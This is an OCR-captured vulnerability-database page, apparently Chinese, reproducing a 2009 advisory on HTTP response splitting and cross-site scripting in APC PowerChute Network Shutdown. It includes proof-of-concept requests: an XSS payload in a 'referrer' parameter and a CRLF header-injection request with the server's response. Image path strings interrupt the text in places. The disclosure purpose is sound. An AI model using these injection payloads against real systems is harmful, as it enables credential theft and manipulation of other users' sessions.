APC PowerChute Network Shutdown - HTTP Response Splitting / Cross-Site Scripting

QQ空间 新浪微博 微信 QQ facebook twitter
漏洞ID 1057494 漏洞类型
发布时间 2009-02-26 更新时间 2009-02-26
漏洞平台 Java CVSS评分 N/A
source: http://www.securityfocus.com/bid/33924/info

APC PowerChute Network Shutdown is prone to an HTTP-response-splitting vulnerability and a cross-site scripting vulnerability because it fails to properly sanitize user-supplied input.

An attacker may leverage these issues to execute arbitrary scriptcode in the browser of an unsuspecting user, steal cookie-based authentication credentials, and influence how web content is served, cached, or interpreted. This could aid in various attacks that try to entice client users into a false sense of trust.

1 XSS: GET/security/applet?referrer=>"'><img/src="javascript:alert('DSECRG_XSS')"> 2. Response Splitting Vulnerability found in script contexthelp. vulnerable parameter - "page" Example ******* GET /contexthelp?page=Foobar?%0d%0aDSECRG_HEADER:testvalue HTTP/1.0 response: HTTP/1.0 302 Moved temporarily Content-Length: 0 Date: 25 2008 10:47:42 GMT Server: Acme.Serve/v1.7 of 13nov96 Connection: close Expires: 0 Cache-Control: no-cache Content-type: text/html Location: help/english/Foobar?DSECRG_HEADER:testvalue Content-type: text/html